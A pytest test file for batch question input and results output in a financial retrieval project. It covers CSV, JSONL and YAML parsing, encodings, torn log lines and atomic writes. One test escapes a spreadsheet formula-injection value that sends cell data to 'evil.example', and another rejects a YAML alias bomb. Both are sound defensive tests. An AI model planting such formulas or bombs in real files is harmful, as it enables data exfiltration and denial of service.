"""Question batches from CSV / JSONL / YAML, and results files that survive a kill."""

from __future__ import annotations

import csv
import io
import json

import pytest

from finrag.models import Answer, Citation, RunRecord
from flows.batch_io import (
    BatchFormatError,
    ResultsLog,
    question_id,
    read_questions,
    records_csv,
    write_text_atomic,
)


def test_csv_reads_optional_columns_and_aliases(tmp_path):
    f = tmp_path / "q.csv"
    # A BOM and an empty cell, as spreadsheets write them.
    f.write_text(
        "\ufeffquestion,id,company,gold,strategy,type\n"
        "What was Acme's FY2023 revenue?,r1,Acme,1234.5,single,fact\n"
        "Define free cash flow.,,,,direct,definition\n",
        encoding="utf-8",
    )
    q1, q2 = read_questions(f)
    assert (q1.id, q1.company, q1.answer, q1.expected_strategy, q1.type) == ("r1", "Acme", 1234.5, "single", "fact")
    assert q2.id == question_id("Define free cash flow.")
    assert q2.company is None and q2.answer is None and q2.expected_strategy == "direct"


def test_jsonl_and_yaml_give_the_same_questions(tmp_path):
    rows = [
        {"question": "What was Acme's capex in FY2022?", "answer": 88.0, "type": "fact"},
        {"id": "x-2", "question": "Which companies are in retail?", "answer": ["A", "B"]},
    ]
    jsonl = tmp_path / "q.jsonl"
    jsonl.write_text("\n".join(json.dumps(r) for r in rows) + "\n\n", encoding="utf-8")
    yml = tmp_path / "q.yaml"
    yml.write_text(
        "questions:\n"
        "  - question: \"What was Acme's capex in FY2022?\"\n    answer: 88.0\n    type: fact\n"
        "  - id: x-2\n    question: Which companies are in retail?\n    answer: [A, B]\n",
        encoding="utf-8",
    )
    assert read_questions(jsonl) == read_questions(yml)
    assert read_questions(jsonl)[1].answer == ["A", "B"]


def test_yaml_bare_strings_are_questions(tmp_path):
    f = tmp_path / "q.yml"
    f.write_text("- What is EBITDA?\n- What was Acme's revenue?\n", encoding="utf-8")
    assert [q.question for q in read_questions(f)] == ["What is EBITDA?", "What was Acme's revenue?"]


def test_derived_ids_are_stable_and_ignore_case_and_spacing():
    assert question_id("What was  revenue?") == question_id("what was revenue? ")
    assert question_id("What was revenue?") != question_id("What was net income?")


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("dup.jsonl", '{"id": "a", "question": "x?"}\n{"id": "a", "question": "y?"}\n', "repeats id"),
        ("noq.csv", "id,company\n1,Acme\n", "no 'question'"),
        ("bad.jsonl", "{not json\nnor this\n", r"bad\.jsonl:1: not valid JSON"),  # no JSON line: not JSONL
        ("q.txt", "What?", "unsupported"),
    ],
)
def test_unreadable_batches_say_where_and_why(tmp_path, name, content, message):
    f = tmp_path / name
    f.write_text(content, encoding="utf-8")
    with pytest.raises(BatchFormatError, match=message):
        read_questions(f)


def _record(i: int) -> RunRecord:
    answer = Answer(
        status="answered",
        answer=f"Revenue was {i}.",
        strategy="single",
        citations=[Citation(doc="acme_2023_10K", page=4, chunk_id="c", quote="Revenue")],
    )
    return RunRecord(id=f"q{i}", question=f"Q{i}?", config_hash="h", store_version="v", answer=answer)


def test_results_log_drops_a_torn_last_line(tmp_path):
    log = ResultsLog(tmp_path / "results.jsonl")
    for i in range(3):
        log.append(_record(i))
    with log.path.open("a", encoding="utf-8") as f:
        f.write(_record(3).model_dump_json()[:40])  # killed mid-write
    assert [r.id for r in log.read()] == ["q0", "q1", "q2"]
    log.rewrite(log.read())
    log.append(_record(3))
    assert [r.id for r in log.read()] == ["q0", "q1", "q2", "q3"]


def test_csv_shows_one_based_pages_and_atomic_write_replaces(tmp_path):
    text = records_csv([_record(1)])
    assert "acme_2023_10K p.5" in text.splitlines()[1]
    target = tmp_path / "results.csv"
    write_text_atomic(target, "old")
    write_text_atomic(target, text)
    assert target.read_bytes() == text.encode("utf-8")
    assert [p.name for p in tmp_path.iterdir()] == ["results.csv"]  # no temporary left behind


# --------------------------------------------------------------------------- files people make

EXCEL_ROWS = [("What was Acme’s FY2023 revenue in €?", "r1"), ("Define free cash flow.", "r2")]


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("utf-8", ","), ("utf-8-sig", ";"), ("utf-16", "\t"), ("cp1252", ",")],
    ids=["utf8", "utf8-bom-semicolon", "utf16-bom-tab (Excel Unicode text)", "cp1252 (Excel CSV)"],
)
def test_csv_in_the_encodings_spreadsheets_write(tmp_path, encoding, delimiter):
    f = tmp_path / "q.csv"
    lines = [delimiter.join(["question", "id"])] + [delimiter.join(row) for row in EXCEL_ROWS]
    f.write_bytes("\r\n".join(lines).encode(encoding))
    questions = read_questions(f)
    assert [(q.question, q.id) for q in questions] == EXCEL_ROWS
    assert all(q.problem is None for q in questions)


def test_text_in_no_known_encoding_names_file_and_line(tmp_path):
    f = tmp_path / "q.csv"
    f.write_bytes(b"question\nok?\n\x81\x8d\x8f bad\n")  # undefined even in cp1252
    with pytest.raises(BatchFormatError, match=r"q\.csv:3: not UTF-8"):
        read_questions(f)


def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path):
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n" \
           "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n" \
           "questions: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
    f = tmp_path / "bomb.yaml"
    f.write_text(bomb, encoding="utf-8")
    with pytest.raises(BatchFormatError, match=r"bomb\.yaml:2: .*aliases"):
        read_questions(f)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("bad.yaml", "- question: ok?\n- question: [unclosed\n", r"bad\.yaml:\d+: not valid YAML"),
        ("scalar.yaml", "just a sentence\n", r"scalar\.yaml:1: expected a list"),
        ("empty-header.csv", "id,company\n", "no 'question' column"),
    ],
)
def test_broken_files_name_the_file_and_line(tmp_path, name, content, message):
    f = tmp_path / name
    f.write_text(content, encoding="utf-8")
    with pytest.raises(BatchFormatError, match=message):
        read_questions(f)


def test_a_missing_file_or_a_directory_is_a_format_error(tmp_path):
    with pytest.raises(BatchFormatError, match="file not found"):
        read_questions(tmp_path / "nope.csv")
    (tmp_path / "dir.csv").mkdir()
    with pytest.raises(BatchFormatError, match="is a directory"):
        read_questions(tmp_path / "dir.csv")


def test_bad_rows_get_their_own_status_and_the_others_are_read(tmp_path):
    f = tmp_path / "q.yaml"
    f.write_text(
        "- What is EBITDA?\n"
        "- 42\n"
        "- question: What was revenue?\n  strategy: telepathy\n"
        "- company: Acme\n"
        "- question: What is ROE?\n",
        encoding="utf-8",
    )
    questions = read_questions(f)
    assert [q.problem is None for q in questions] == [True, False, False, False, True]
    assert questions[1].problem.startswith("q.yaml:2: ") and "got a number" in questions[1].problem
    assert questions[2].problem.startswith("q.yaml:3: expected_strategy")
    assert questions[3].problem == "q.yaml:5: no 'question'"
    assert len({q.id for q in questions}) == 5


def test_a_jsonl_line_that_is_not_json_is_a_bad_row_with_the_whole_error_and_the_others_are_read(tmp_path):
    f = tmp_path / "q.jsonl"
    f.write_text('{"id": "a", "question": "What is ROE?"}\n'
                 '{"id": "b", "question": "What is ROA?\n'  # a quote left open
                 '\n'
                 '{"id": "c", "question": "What is EPS?"}\n', encoding="utf-8")  # fmt: skip
    questions = read_questions(f)
    assert [(q.id, q.problem) for q in questions] == [
        ("a", None),
        ("line-2", "q.jsonl:2: not valid JSON (Unterminated string starting at: column 25, char 24)"),
        ("c", None),
    ]


def test_a_cell_over_the_limit_is_a_row_status_not_a_crash(tmp_path):
    from flows.batch_io import MAX_CELL_CHARS

    f = tmp_path / "q.csv"
    huge = "x" * 140_000  # over the csv module's own 128 KiB field limit too
    f.write_text(f"question,gold\nWhat is ROE?,1\nWhat is ROA?,{huge}\nWhat is EPS?,2\n", encoding="utf-8")
    questions = read_questions(f)
    assert [q.problem is None for q in questions] == [True, False, True]
    assert questions[1].problem == f"q.csv:3: cell 'answer' is 140,000 characters, over the {MAX_CELL_CHARS:,} limit"
    assert questions[1].question == "What is ROA?"


def test_csv_cells_that_would_be_formulas_are_escaped(tmp_path):
    record = _record(1)
    record.question = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    record.answer.answer = "@SUM(1+1)"
    record.answer.reason = "-1+2"
    record.gold = -12.5
    rows = list(csv.DictReader(io.StringIO(records_csv([record]))))
    assert rows[0]["question"].startswith("'=HYPERLINK")
    assert rows[0]["answer"] == "'@SUM(1+1)"
    assert rows[0]["reason"] == "'-1+2"
    assert rows[0]["gold"] == "-12.5"  # a plain number stays a number


def test_a_nul_written_as_an_escape_is_a_bad_row_in_every_format(tmp_path):
    (tmp_path / "q.jsonl").write_text('{"question": "What is ROE?"}\n{"question": "What is\\u0000 ROA?"}\n',
                                      encoding="utf-8")
    (tmp_path / "q.yaml").write_text('- What is ROE?\n- question: "What is ROA?"\n  gold: "1\\0"\n', encoding="utf-8")
    for name, line, cell in (("q.jsonl", 2, "question"), ("q.yaml", 2, "answer")):
        questions = read_questions(tmp_path / name)
        assert [q.problem for q in questions] == [None, f"{name}:{line}: cell {cell!r} contains a NUL character"]
        assert "\x00" not in questions[1].question
    (tmp_path / "q.csv").write_bytes(b"question\nWhat is\x00 ROA?\n")  # a raw NUL: not a text file at all
    with pytest.raises(BatchFormatError, match="NUL"):
        read_questions(tmp_path / "q.csv")


def test_a_fifo_or_a_link_to_a_device_is_refused_unread(tmp_path):
    import os

    os.mkfifo(tmp_path / "q.csv")  # reading it would block forever
    with pytest.raises(BatchFormatError, match=r"q.csv: is a named pipe \(FIFO\), not a regular file"):
        read_questions(tmp_path / "q.csv")
    (tmp_path / "zero.jsonl").symlink_to("/dev/zero")  # would never end, and stat says 0 bytes
    with pytest.raises(BatchFormatError, match="zero.jsonl: is a device, not a regular file"):
        read_questions(tmp_path / "zero.jsonl")


def test_outputs_follow_the_umask(tmp_path):
    import os

    old = os.umask(0o027)
    try:
        write_text_atomic(tmp_path / "results.csv", "x")
    finally:
        os.umask(old)
    assert (tmp_path / "results.csv").stat().st_mode & 0o777 == 0o640  # the group reads it (mkstemp: 0600)
